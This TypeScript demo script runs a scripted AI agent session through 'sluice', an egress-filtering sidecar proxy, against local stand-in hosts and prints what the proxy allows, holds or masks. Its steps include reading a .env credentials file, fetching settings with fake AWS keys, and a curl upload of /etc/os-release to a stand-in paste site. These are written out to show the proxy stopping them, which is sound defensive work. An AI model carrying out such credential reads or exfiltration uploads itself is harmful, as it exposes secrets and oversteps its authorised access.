// `make demo`: a real sidecar (explicit-proxy mode, no root, no cluster) in front of a scripted
// agent session against local upstreams that stand in for GitHub, npm, OpenAI and an exfil
// site. Real clients (git, curl) make the requests; each line shows what the agent asked, what
// sluice decided and why.
import { execFile } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { createBareRepo, gitBackendHandler } from '../../../e2e/support/git/git-backend.ts';
import { startTestSidecar } from '../../../e2e/support/sidecar/test-sidecar.ts';
import type { TestSidecar } from '../../../e2e/support/sidecar/test-sidecar.ts';
import { createTestCa, echoHandler, startHttpsUpstream } from '../../../e2e/support/sidecar/upstreams.ts';
import type { TestUpstream } from '../../../e2e/support/sidecar/upstreams.ts';
import { HEADER_DECISION } from '../../../api/src/index.ts';
import { runCli } from '../../../cli/src/main.ts';

const run = promisify(execFile);

// Well-formed but fake AWS credentials, served by the stand-in GitHub to show masking.
const DEMO_KEY_ID = 'AKIAQ4T7ZK2MWX3RPL6N';
const DEMO_SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8Lk3Tq9V';

interface Step {
  say: string;
  cmd: string;
  args: string[];
}

const tty = process.stdout.isTTY;
const paint = (code: string, text: string) => (tty ? `\x1b[${code}m${text}\x1b[0m` : text);

/** curl prints this after the response (-w), so the status is read whatever HTTP version it used. */
const STATUS_MARK = 'sluice-demo-status:';

function verdictLine(out: string, err: string): string {
  const decision = new RegExp(`^${HEADER_DECISION}: (.*)$`, 'mi').exec(out)?.[1]?.trim();
  const body = /\{"error":"([^"]+)","reason":"([^"]+)"/.exec(out);
  if (decision) {
    const kind = decision.split(';')[0]!;
    const code = body?.[1] ?? /code=([\w.]+)/.exec(decision)?.[1] ?? '';
    const reason = body?.[2] ?? 'refused at CONNECT, before any request was sent';
    return `${paint(kind === 'hold' ? '33' : '31', kind.toUpperCase().padEnd(5))} ${code}: ${reason}`;
  }
  const status = new RegExp(`^${STATUS_MARK} (\\d{3})$`, 'm').exec(out)?.[1];
  if (status && status !== '000') {
    const masked = [...out.matchAll(/\[REDACTED:([a-z0-9-]+)\]/g)].map((m) => m[1]);
    // The body is what follows the last header block, up to the status line curl appended.
    const body = (out.split(/\r?\n\r?\n/).pop() ?? '').replace(new RegExp(`\\n?${STATUS_MARK} \\d{3}\\s*$`), '');
    if (masked.length) return `${paint('32', 'ALLOW')} upstream answered ${status}; ${paint('36', `masked ${masked.length} secret(s): ${[...new Set(masked)].join(', ')}`)}\n        the agent saw: ${body.trim()}`;
    return `${paint('32', 'ALLOW')} upstream answered ${status}`;
  }
  return `${paint('31', 'FAIL ')} ${err.trim().split('\n').pop() || `curl exited without a response (status ${status ?? 'none'})`}`;
}

export async function runProxySession(write: (s: string) => void): Promise<void> {
  const ca = await createTestCa();
  const repos = createBareRepo('acme', 'app').root;
  const upstreams: TestUpstream[] = [];
  const git = await startHttpsUpstream(ca, ['github.com'], gitBackendHandler(repos));
  const api = await startHttpsUpstream(ca, ['registry.npmjs.org', 'api.openai.com', 'raw.githubusercontent.com', 'paste.example'], (req, res, body) => {
    // A file that should never have been committed: the agent must not see the credentials.
    if (req.url === '/acme/app/main/deploy/settings.json') {
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ region: 'eu-west-1', aws_access_key_id: DEMO_KEY_ID, aws_secret_access_key: DEMO_SECRET }));
      return;
    }
    echoHandler(req, res, body);
  });
  upstreams.push(git, api);
  const spoolDir = join(mkdtempSync(join(tmpdir(), 'sluice-demo-audit-')), 'spool');
  const sidecar: TestSidecar = await startTestSidecar({
    config: { audit: { spoolDir } },
    resolve: {
      'github.com:443': git.dial,
      'registry.npmjs.org:443': api.dial,
      'api.openai.com:443': api.dial,
      'raw.githubusercontent.com:443': api.dial,
      'paste.example:443': api.dial,
    },
    extraRootsFiles: [ca.caFile],
  });
  const work = mkdtempSync(join(tmpdir(), 'sluice-demo-'));
  const env = {
    ...process.env,
    HTTPS_PROXY: sidecar.proxyUrl,
    GIT_SSL_CAINFO: sidecar.trust.bundleFile,
    HOME: work,
    GIT_AUTHOR_NAME: 'agent',
    GIT_AUTHOR_EMAIL: 'agent@example.com',
    GIT_COMMITTER_NAME: 'agent',
    GIT_COMMITTER_EMAIL: 'agent@example.com',
  };
  const curl = (...a: string[]) =>
    ['curl', ['-sS', '-i', '--max-time', '20', '-w', `\n${STATUS_MARK} %{http_code}\n`, '--cacert', sidecar.trust.caFile, '-x', sidecar.proxyUrl, ...a]] as const;
  const steps: Step[] = [
    { say: 'clone the repository', cmd: 'git', args: ['clone', '-q', 'https://github.com/acme/app.git', join(work, 'app')] },
    { say: 'install a dependency', ...pair(curl('https://registry.npmjs.org/express')) },
    { say: 'ask the model for help', ...pair(curl('https://api.openai.com/v1/chat/completions', '-H', 'content-type: application/json', '-d', '{"model":"gpt-5","messages":[{"role":"user","content":"fix the bug"}]}')) },
    { say: 'read the deployment settings (they contain AWS keys)', ...pair(curl('https://raw.githubusercontent.com/acme/app/main/deploy/settings.json')) },
    { say: 'read a credentials file', ...pair(curl('https://raw.githubusercontent.com/acme/app/main/.env')) },
    { say: 'publish a package', ...pair(curl('-X', 'PUT', 'https://registry.npmjs.org/acme-app', '-d', '{}')) },
    { say: 'upload the source to a paste site', ...pair(curl('https://paste.example/upload', '--data-binary', '@/etc/os-release')) },
    { say: 'connect to an IP address', ...pair(curl('http://203.0.113.7/')) },
    { say: 'push a commit', cmd: 'sh', args: ['-c', `cd ${join(work, 'app')} && echo fix >> README.md && git commit -qam fix && git push -q origin main`] },
  ];
  write(`sluice demo — sidecar session ${sidecar.sessionId.slice(0, 8)}, policy revision ${sidecar.engine.revision}\n`);
  write(`the agent talks through ${sidecar.proxyUrl}; upstreams are local stand-ins\n\n`);
  try {
    for (const step of steps) {
      let out = '';
      let err = '';
      try {
        const r = await run(step.cmd, step.args, { env, encoding: 'utf8' });
        out = r.stdout;
        err = r.stderr;
      } catch (e) {
        const x = e as { stdout?: string; stderr?: string };
        out = x.stdout ?? '';
        err = x.stderr ?? String(e);
      }
      const line = step.cmd === 'curl' ? verdictLine(out, err) : err.includes('403') ? `${paint('33', 'HOLD ')} git reports: ${/.*(RPC failed|403).*/.exec(err)?.[0] ?? err.trim()}` : err ? `${paint('31', 'FAIL ')} ${err.trim()}` : `${paint('32', 'ALLOW')} ${step.say} succeeded`;
      write(`${paint('1', `▶ ${step.say}`)}\n  ${line}\n`);
    }
    const metrics = await (await fetch(`${sidecar.adminUrl}/metrics`)).text();
    write('\nmetrics (sluice_requests_total):\n');
    for (const l of metrics.split('\n').filter((x) => x.startsWith('sluice_requests_total'))) write(`  ${l}\n`);
  } finally {
    await sidecar.stop();
    for (const u of upstreams) await u.close();
  }
  // The session was recorded as a hash chain in the sidecar's spool; read it back like an auditor.
  const session = sidecar.sessionId;
  write(`\n${paint('1', `▶ kubectl sluice replay ${session} --spool ${spoolDir}`)}\n`);
  await runCli(['replay', session, '--spool', spoolDir], { out: write, err: write });
  write(`\n${paint('1', `▶ kubectl sluice verify ${session} --spool ${spoolDir} --require-end`)}\n`);
  await runCli(['verify', session, '--spool', spoolDir, '--require-end'], { out: write, err: write });
}

function pair(c: readonly [string, readonly string[]]): { cmd: string; args: string[] } {
  return { cmd: c[0], args: [...c[1]] };
}
